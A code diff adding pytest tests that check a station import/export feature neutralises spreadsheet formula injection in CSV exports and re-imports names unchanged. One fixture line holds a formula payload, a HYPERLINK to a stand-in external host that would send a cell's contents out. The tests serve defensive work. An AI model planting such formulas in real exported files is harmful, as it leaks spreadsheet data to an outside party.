@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pytest
@@ -321,3 +322,39 @@ def test_a_nul_byte_or_an_overlong_field_is_a_row_error(app, client, tree, make_
     )
     assert r.status_code == 200 and "新增2个" in page_text(r)
     assert _count(app) == 2
+
+
+# --- Formula injection: the export is safe and re-imports unchanged (issue 7, S7) ---------------
+
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1", "-2", "@SUM(A1)"]
+
+
+def test_export_neutralises_formulas_and_a_reimport_keeps_the_names_as_typed(app, client, tree, make_user):
+    login_as(client, make_user("staff", union=tree["county_a1"]))
+    rows = [
+        f'"{n.replace(chr(34), chr(34) * 2)}",香坊区{i}号,45.70,126.6{i},,24h,,X-{i}'
+        for i, n in enumerate(FORMULA_NAMES)
+    ]
+    data = csv_text(*rows, header=HEADER + ",external_id").encode()
+    assert "新增4个" in page_text(_upload(client, data))
+    for _round in range(2):  # export → import → export: nothing grows
+        with client.get("/staff/stations/export.csv") as export:
+            body = export.data
+            assert "attachment" in export.headers["Content-Disposition"]
+        cells = [row for row in csv.reader(io.StringIO(body.decode("utf-8-sig")))][1:]
+        for row in cells:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@")), row
+        assert sorted(row[0] for row in cells) == sorted("'" + n for n in FORMULA_NAMES)
+        assert "新增0个，更新4个" in page_text(_upload(client, body))
+    with app.app_context():
+        assert sorted(db.session.scalars(select(Station.name))) == sorted(FORMULA_NAMES)
+        # Negative coordinates are neutralised on the way out too, and read back as numbers.
+        assert all(126 < lng < 127 for lng in db.session.scalars(select(Station.lng)))
+
+
+def test_a_leading_apostrophe_that_guards_nothing_is_kept(app, tree):
+    with app.app_context():
+        importer.import_stations(csv_text("'老站',香坊区1号,45.7,126.6,,24h,"))
+        db.session.commit()
+        assert db.session.scalars(select(Station.name)).one() == "'老站'"
